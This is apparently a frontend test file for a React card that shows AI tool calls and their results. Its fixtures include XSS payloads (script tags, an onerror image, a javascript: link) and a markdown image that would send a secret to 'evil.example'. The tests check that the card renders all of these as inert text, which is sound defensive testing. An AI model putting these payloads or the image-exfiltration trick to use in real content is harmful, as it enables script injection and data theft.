import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { ToolCallCard } from '@/features/mcp-tools/components/tool-call-card';

const png =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

describe('tool call cards', () => {
  it('shows the name, status and duration, and opens to arguments and result', async () => {
    const { container } = render(
      <ToolCallCard
        call={{
          server: 'everything',
          tool: 'echo',
          args: { message: 'hi' },
          status: 'done',
          result: { content: [{ type: 'text', text: 'Echo: hi' }], isError: false, durationMs: 3 },
          durationMs: 1234,
        }}
      />,
    );
    const summary = container.querySelector('summary')!;
    expect(summary).toHaveTextContent('everything--echo');
    expect(summary).toHaveTextContent('Done');
    expect(summary).toHaveTextContent('1.23 s');
    const details = container.querySelector('details')!;
    expect(details).not.toHaveAttribute('open');
    await userEvent.click(summary);
    expect(details).toHaveAttribute('open');
    expect(within(details).getByText(/"message": "hi"/)).toBeInTheDocument();
    expect(within(details).getByText('Echo: hi')).toBeInTheDocument();
  });

  it('renders text as text, never as markup', () => {
    const { container } = render(
      <ToolCallCard
        defaultOpen
        call={{
          server: 'web',
          tool: 'fetch',
          args: { url: '<img src=x onerror=alert(1)>' },
          status: 'done',
          result: {
            content: [{ type: 'text', text: '<script>alert("x")</script><b>bold</b>' }],
            isError: false,
            durationMs: 1,
          },
        }}
      />,
    );
    expect(screen.getByText('<script>alert("x")</script><b>bold</b>')).toBeInTheDocument();
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('b')).toBeNull();
    expect(container.querySelector('img')).toBeNull();
  });

  it('shows a markdown image in a result as its text: nothing is fetched from its host', () => {
    const injected = '![x](https://evil.example/collect?d=secret)';
    const { container } = render(
      <ToolCallCard
        defaultOpen
        call={{
          server: 'web',
          tool: 'fetch',
          args: {},
          status: 'done',
          result: { content: [{ type: 'text', text: injected }], isError: false, durationMs: 1 },
        }}
      />,
    );
    expect(screen.getByText(injected)).toBeInTheDocument();
    expect(container.querySelector('img, [src], [srcset]')).toBeNull();
  });

  it('shows images as data URLs of allowed types only, and links only to web addresses', () => {
    const { container } = render(
      <ToolCallCard
        defaultOpen
        call={{
          server: 'everything',
          tool: 'get-tiny-image',
          args: {},
          status: 'done',
          result: {
            content: [
              { type: 'image', mimeType: 'image/png', data: png },
              { type: 'image', mimeType: 'text/html', data: 'PGgxPmhpPC9oMT4=' },
              { type: 'image', mimeType: 'image/png', data: 'not base64 "><script>' },
              { type: 'resource_link', uri: 'javascript:alert(1)', name: 'evil' },
              { type: 'resource_link', uri: 'https://example.com/doc', name: 'doc' },
              {
                type: 'resource',
                resource: { uri: 'demo://blob', mimeType: 'application/gzip', blob: 'AAAAAA==' },
              },
            ],
            isError: false,
            durationMs: 1,
          },
        }}
      />,
    );
    const images = container.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]).toHaveAttribute('src', `data:image/png;base64,${png}`);
    expect(
      screen.getByRole('img', { name: 'everything--get-tiny-image: Image (image/png)' }),
    ).toBeInTheDocument();
    expect(screen.getByText('An image of type text/html is not shown')).toBeInTheDocument();
    expect(screen.queryByRole('link', { name: 'evil' })).toBeNull();
    expect(screen.getByText('evil')).toBeInTheDocument();
    expect(screen.getByRole('link', { name: 'doc' })).toHaveAttribute(
      'href',
      'https://example.com/doc',
    );
    expect(
      screen.getByText('Binary resource demo://blob (application/gzip, 4 B)'),
    ).toBeInTheDocument();
  });

  it("marks a tool's own error, a failed call and a denial", () => {
    render(
      <>
        <ToolCallCard
          defaultOpen
          call={{
            server: 'everything',
            tool: 'gzip-file-as-resource',
            args: {},
            status: 'error',
            result: {
              content: [{ type: 'text', text: 'fetch failed' }],
              isError: true,
              durationMs: 1,
            },
          }}
        />
        <ToolCallCard
          defaultOpen
          call={{
            server: 'everything',
            tool: 'slow',
            args: {},
            status: 'error',
            error: 'did not answer within 60000 ms',
          }}
        />
        <ToolCallCard
          call={{
            server: 'everything',
            tool: 'echo',
            args: {},
            status: 'denied',
            error: 'The user denied this tool call',
          }}
        />
      </>,
    );
    expect(screen.getByText('The tool reported an error')).toBeInTheDocument();
    expect(screen.getByText('fetch failed')).toBeInTheDocument();
    expect(screen.getByText('did not answer within 60000 ms')).toBeInTheDocument();
    expect(screen.getByText('Denied')).toBeInTheDocument();
  });
});
